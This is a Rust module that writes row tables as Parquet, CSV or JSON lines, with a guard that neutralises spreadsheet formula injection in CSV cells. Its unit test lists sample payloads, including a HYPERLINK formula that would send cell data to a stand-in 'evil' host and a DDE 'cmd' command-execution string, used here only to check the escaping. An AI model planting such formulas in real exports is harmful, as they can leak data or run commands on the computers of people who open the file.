//! Writes rows as columns of Parquet, lines of CSV or lines of JSON.

use std::path::Path;

use parquet::errors::ParquetError;
use serde::{Deserialize, Serialize};

use crate::rows::{Column, RowTable, Values};

pub(crate) mod parquet_file;

/// File format of rows.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    /// Compressed columns, which most data tools read.
    Parquet,
    /// Lines of comma-separated values; the first line holds the names of the columns.
    Csv,
    /// Lines with a JSON object each.
    Jsonl,
}

impl Format {
    /// All formats, Parquet first.
    pub const ALL: [Format; 3] = [Format::Parquet, Format::Csv, Format::Jsonl];

    /// Returns the extension of files in this format, without the dot.
    pub fn ending(self) -> &'static str {
        match self {
            Format::Parquet => "parquet",
            Format::Csv => "csv",
            Format::Jsonl => "jsonl",
        }
    }

    /// Returns the format of a file by its extension, in either case; `None` if the extension is unknown.
    pub fn from_path(path: &Path) -> Option<Format> {
        let ending = path.extension()?.to_str()?;
        Format::ALL.into_iter().find(|format| format.ending().eq_ignore_ascii_case(ending))
    }

    /// Encodes the rows of a block.
    pub(crate) fn write(self, table: &RowTable) -> Result<Vec<u8>, ParquetError> {
        match self {
            Format::Parquet => parquet_file::write(table),
            Format::Csv => Ok(lines(table, Some(&table.head()), csv_row)),
            Format::Jsonl => Ok(lines(table, None, json_row)),
        }
    }
}

fn lines(table: &RowTable, head: Option<&str>, row: fn(&[Column], usize, &mut String)) -> Vec<u8> {
    let mut text = String::new();
    head.into_iter().for_each(|head| text.push_str(head));
    for at in 0..table.rows() {
        row(&table.columns, at, &mut text);
        text.push('\n');
    }
    text.into_bytes()
}

fn csv_row(columns: &[Column], at: usize, out: &mut String) {
    for (number, column) in columns.iter().enumerate() {
        if number > 0 {
            out.push(',');
        }
        match &column.values {
            Values::Text { known, at: which, .. } => csv_text(&known[which[at] as usize], out),
            // A missing number becomes an empty cell.
            values => drop(values.write_number(at, out)),
        }
    }
}

/// Appends a text as one cell. Spreadsheets run text that looks like a formula, and rules may produce any text, so such
/// a text gets a leading apostrophe, which spreadsheets read as "a text". A text that begins with an apostrophe gets
/// another one, so that readers recover the text by removing the first apostrophe.
pub fn csv_text(text: &str, out: &mut String) {
    let guarded = if is_run_by_tables(text) { &*format!("'{text}") } else { text };
    csv_cell(guarded, out);
}

/// Characters that begin a formula, including the full-width ones, or that a spreadsheet skips in front of one, and the
/// apostrophe.
const BEFORE_FORMULAS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\'', '＝', '＋', '－', '＠'];

/// True if a spreadsheet may take a text for a formula. Numbers and keys of places, such as `-1,0,2`, are not formulas.
fn is_run_by_tables(text: &str) -> bool {
    let is_number = |rest: &str| rest.chars().all(|c| c.is_ascii_digit() || matches!(c, ',' | '.' | '-'));
    text.starts_with(BEFORE_FORMULAS) && !text.strip_prefix('-').is_some_and(is_number)
}

/// Appends a text, in quotation marks if it needs them.
fn csv_cell(text: &str, out: &mut String) {
    if !text.contains([',', '"', '\n', '\r']) {
        return out.push_str(text);
    }
    out.push('"');
    out.push_str(&text.replace('"', "\"\""));
    out.push('"');
}

fn json_row(columns: &[Column], at: usize, out: &mut String) {
    out.push('{');
    for (number, column) in columns.iter().enumerate() {
        if number > 0 {
            out.push(',');
        }
        // Serialising a string cannot fail.
        out.push_str(&serde_json::to_string(&column.name).unwrap_or_default());
        out.push(':');
        match &column.values {
            Values::Text { known, at: which, .. } => {
                out.push_str(&serde_json::to_string(&*known[which[at] as usize]).unwrap_or_default());
            }
            values if values.write_number(at, out) => {}
            _ => out.push_str("null"),
        }
    }
    out.push('}');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_text_is_a_formula() {
        for (text, cell) in [
            ("pond", "pond"),
            ("=HYPERLINK(\"http://evil\"&A1)", "\"'=HYPERLINK(\"\"http://evil\"\"&A1)\""),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+1+cmd", "'+1+cmd"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("＝1", "'＝1"),
            ("'tis", "''tis"),
            ("-", "-"),
            ("-1,0,2", "\"-1,0,2\""),
            ("-12", "-12"),
            ("a=1", "a=1"),
            ("", ""),
        ] {
            let mut out = String::new();
            csv_text(text, &mut out);
            assert_eq!(out, cell);
            // Removing the quotation marks and the first apostrophe must restore the text.
            let bare = out.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')).unwrap_or(&out);
            let bare = bare.replace("\"\"", "\"");
            assert_eq!(bare.strip_prefix('\'').unwrap_or(&bare), text);
        }
    }
}
